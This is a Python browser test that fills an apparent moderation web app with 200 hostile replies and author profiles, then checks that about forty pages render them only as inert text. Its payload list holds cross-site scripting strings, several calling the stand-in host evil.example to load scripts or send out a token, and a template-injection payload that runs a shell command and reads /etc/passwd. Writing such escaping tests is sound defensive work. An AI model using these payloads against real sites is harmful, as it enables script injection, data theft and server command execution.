"""Two hundred answers of people who want more than to be read, on every screen that shows answers, in a real browser."""

import pytest
from sqlalchemy import update

from bot import desk
from storage.models import Author, Question, Reply, Revision
from storage.states import CONFIG_WORKSPACE, VerdictValue

BREAKERS = [
    "<script>alert({n})</script>",
    "</script><script src=http://evil.example/{n}.js></script>",
    "<img src=x onerror=alert({n})>",
    '"><img src=http://evil.example/{n}.png>',
    "' onmouseover='alert({n})' autofocus onfocus='alert({n})' x='",
    '" hx-get="/running/pause" hx-trigger="load" x="',
    '<div hx-post="/running/pause" hx-trigger="load">load {n}</div>',
    '<div data-hx-get="http://evil.example/{n}" data-hx-trigger="load">x</div>',
    "<svg/onload=alert({n})><svg><animate onbegin=alert({n})>",
    '<iframe srcdoc="<script>parent.alert({n})</script>"></iframe>',
    '<object data="data:text/html,<script>alert({n})</script>"></object><embed src=//evil.example>',
    '<a href="javascript:alert({n})">press</a> javascript:alert({n})',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/{n}"><base href="http://evil.example/">',
    '<form action="http://evil.example/"><input name=token><button>send</button></form>',
    "<style>*{background:url(http://evil.example/{n})}</style><link rel=stylesheet href=//evil.example/x.css>",
    "{{ 7 * 7 }}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% include '/etc/passwd' %}",
    "\u202e\u2066evil\u2069 \u200f{n}\u202c \u0000\u0007\u001b[31m red",
    "W" * 3000 + "{n}",
    "</textarea></title></style></template><script>alert({n})</script><!--",
    "]]><math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
]
LINKS = ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", 'https://x.example/"onload="alert(1)']
FOREIGN = """
[...document.querySelectorAll('iframe, object, embed, base, style, svg:not(.flood), math, img, form[action*="evil"],'
  + ' [onload], [onerror], [onmouseover], [onfocus], [hx-get="/running/pause"], [data-hx-get], [srcdoc],'
  + ' script:not([src^="/static/"]), link:not([href^="/static/"]), a[href^="javascript:" i], a[href^="data:" i],'
  + ' meta[http-equiv]')].map(found => found.outerHTML.slice(0, 200))
"""
SCREENS = [
    "/",
    *(f"/answers/habits?shelf={shelf}" for shelf in desk.Shelf),
    "/answers/habits?shelf=all&page=2",
    "/answers/habits?shelf=all&words=script",
    *(f"/answers/habits?shelf=all&reply={number}" for number in range(1, 21)),
    "/answers/habits/basket",
    "/answers/habits/decoys",
    "/answers/habits/1/beside?other=2",
    "/running",
    "/running/people",
    "/running/people?named=script",
    "/running/people/1",
    "/running/people/6/forget",
    "/running/printed",
    "/history",
    "/strip",
    "/check",
    "/add",
    "/ask",
]


@pytest.fixture
async def attacked(bot):
    """200 answers; names, handles and links are as hostile as the words, and some are kept."""
    await bot.tick()
    for number in range(200):
        breaker = BREAKERS[number % len(BREAKERS)].replace("{n}", str(number))
        bot.reply(f"person{number}", f"In {1800 + number} we closed office {number}, and saved rent. {breaker}")
    await bot.tick(minutes=6)
    async with bot.context.store.write() as session:
        for number in range(1, 201):  # as a network would that checks nothing
            breaker = BREAKERS[(number - 1) % len(BREAKERS)].replace("{n}", str(number)).replace("\0", "")[:200]
            link = LINKS[number % len(LINKS)]
            named = {"display_name": breaker, "handle": f"{breaker[:60]}{number}", "link": link}
            await session.execute(update(Author).where(Author.id == number).values(**named))
            await session.execute(update(Reply).where(Reply.id == number).values(link=link))
    for number in range(1, 21):
        await desk.decide(bot.context, CONFIG_WORKSPACE, number, VerdictValue.KEEP, editor=BREAKERS[0])
    assert len(await bot.rows(Revision)) == 200
    assert [each.slug for each in await bot.rows(Question)] == ["habits"]
    return bot


async def test_nothing_that_strangers_wrote_is_more_than_text(attacked, open_page, open_browser):
    opened = await open_page(attacked, enters=False)
    tab = await open_browser(opened)
    asked, answered = [], []
    tab.on("response", lambda response: answered.append((response.status, response.url)))
    tab.on("dialog", lambda dialog: tab.problems.append(f"dialog {dialog.message}"))
    tab.on("request", lambda request: asked.append((request.method, request.url)))
    shown = 0
    for screen in SCREENS:
        found = await tab.goto(f"{opened.address}{screen}")
        assert (screen, found.status) == (screen, 200)
        assert (screen, await tab.evaluate(FOREIGN)) == (screen, [])
        text = await tab.evaluate("document.body.innerText")
        shown += "evil" in text or "alert(" in text
        assert "49{{" not in text
        assert "root:" not in text
        if await tab.query_selector("nav"):  # a part that is opened alone has no looks
            wide = await tab.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            assert wide <= 0, f"{screen} runs out of its window"
    assert shown > 25  # the words were there
    # a part that is opened alone names no icon, and the browser looks for one
    missing = [url for status, url in answered if status >= 400 and not url.endswith("/favicon.ico")]
    assert missing == []
    assert [each for each in tab.problems if "(Not Found)" not in each] == []
    assert [method for method, _ in asked if method != "GET"] == []
